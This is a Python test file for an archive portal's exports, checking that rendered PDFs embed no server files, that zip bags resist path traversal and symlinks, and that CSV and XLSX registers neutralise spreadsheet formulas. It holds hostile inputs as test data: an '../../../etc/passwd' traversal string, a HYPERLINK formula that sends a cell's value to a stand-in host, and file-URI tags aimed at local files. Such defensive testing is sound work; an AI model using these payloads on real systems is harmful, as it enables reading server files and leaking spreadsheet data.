"""Holes of what leaves the portal as a file: papers, bags, tables."""

import csv
import io
import re
import zipfile
from pathlib import Path
from urllib.parse import unquote, urlsplit

import pikepdf
import pytest
from django.test import Client
from django.urls import reverse

from archive_app.domain.bagging import composing, names
from archive_app.interfaces import service_register
from archive_app.models import RecordItem
from resetdesk.core import pdf
from resetdesk.core.files.store import store
from resetdesk.core.models import StoredFile
from tests.archive_app.bagged import MONTH, archive, bag
from tests.archive_app.ended import completed
from tests.cast import Cast, sign_in
from tests.core.files.samples import photo
from tests.holes.closing import closes
from tests.requests_app.factories import submitted

Patch = pytest.MonkeyPatch
CLIMBING = "../../../etc/passwd"
FORMULA = '=HYPERLINK("http://x.test/"&A1)'
STARTS = ("=", "+", "-", "@", "\t", "\r", "|", "\uff1d")
PAIRS = list(zip(STARTS[::2], STARTS[1::2], strict=True))


def any_file(patch: Patch) -> None:
    patch.setattr(pdf, "static_path", lambda url: Path(unquote(urlsplit(url).path)))


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    """A picture that no paper may show."""
    picture = tmp_path / "rahasia.png"
    picture.write_bytes(photo(31, 17, kind="PNG"))
    return picture


@pytest.mark.slow
@closes(
    "pdf-files",
    guard="The fetcher reads `data:` and our static folder alone; only the argument attaches a file.",
    twin=any_file,
)
@pytest.mark.asvs("1.3.6")
def test_a_paper_reads_no_file_of_the_server(secret: Path) -> None:
    tricks = (
        f'<img src="{secret.as_uri()}">',
        f'<link rel="attachment" href="{secret.as_uri()}">',
        f'<a rel="attachment" href="{secret.as_uri()}">x</a>',
        f'<object data="{secret.as_uri()}"></object>',
    )
    paper = pdf.render(f"<html><body><p>isi</p>{''.join(tricks)}</body></html>", title="Uji")
    with pikepdf.open(io.BytesIO(paper)) as document:
        streams = [thing for thing in document.objects if isinstance(thing, pikepdf.Stream)]
        pictures = [one for one in streams if one.get("/Subtype") == "/Image"]
        assert pictures == []
        assert dict(document.attachments) == {}


def names_of_people(patch: Patch) -> None:
    def named(item: RecordItem) -> str:
        return item.file.name

    patch.setattr(names, "file_name", named)
    patch.setattr(composing, "file_name", named)


@pytest.fixture
def hostile_record(cast: Cast) -> None:
    """A record whose files bear the names of an attacker, past every guard at the entrance."""
    record = archive(completed(cast))
    files = record.items.values_list("file", flat=True)
    for place, file in enumerate(StoredFile.objects.filter(pk__in=list(files))):
        StoredFile.objects.filter(pk=file.pk).update(name=f"{CLIMBING}{place}")


@closes(
    "uploaded-paths",
    guard="Bags are written from random keys under names of our own: no user's name, no link, no path.",
    twin=names_of_people,
)
@pytest.mark.asvs("5.3.2")
def test_no_export_follows_a_path(cast: Cast, hostile_record: None, tmp_path: Path) -> None:
    with zipfile.ZipFile(bag(cast.timur, tmp_path)) as packed:
        members = packed.infolist()
    assert [one.filename for one in members if not re.fullmatch(r"[\w.-]+(/[\w.-]+)*", one.filename)] == []
    assert [one.filename for one in members if ".." in one.filename] == []
    # A plain file each: never a link.
    assert {one.external_attr >> 28 for one in members} == {8}
    with pytest.raises(ValueError, match="not a key"):
        store().path(CLIMBING)


def cells_as_typed(patch: Patch) -> None:
    patch.setattr(service_register, "plain_cell", str)


@pytest.fixture
def formulas(cast: Cast, client: Client) -> None:
    """A register full of formulas, and somebody who may take it."""
    for start, other in PAIRS:
        submitted(cast, answers={"name": start + FORMULA, "work_unit": f" {other}1+1"})
    sign_in(client, cast["kepala_lpse"])


@closes(
    "csv-formula",
    guard="A cell that a spreadsheet could run stands behind an apostrophe; workbooks hold text as text.",
    twin=cells_as_typed,
)
@pytest.mark.asvs("1.2.10")
def test_no_cell_starts_a_formula(client: Client, formulas: None) -> None:
    table = client.get(reverse("months:register", args=["contoh-timur", MONTH, "csv"])).content
    rows = list(csv.reader(io.StringIO(table.decode("utf-8-sig"))))
    assert len(rows) == len(PAIRS) + 1
    assert "HYPERLINK" in str(rows)
    assert [cell for row in rows for cell in row if cell.lstrip(" \u00a0").startswith(STARTS)] == []
    book = client.get(reverse("months:register", args=["contoh-timur", MONTH, "xlsx"])).content
    with zipfile.ZipFile(io.BytesIO(book)) as packed:
        sheets = [packed.read(name) for name in packed.namelist() if "worksheets" in name]
    assert sheets
    assert not [sheet for sheet in sheets if b"<f>" in sheet]
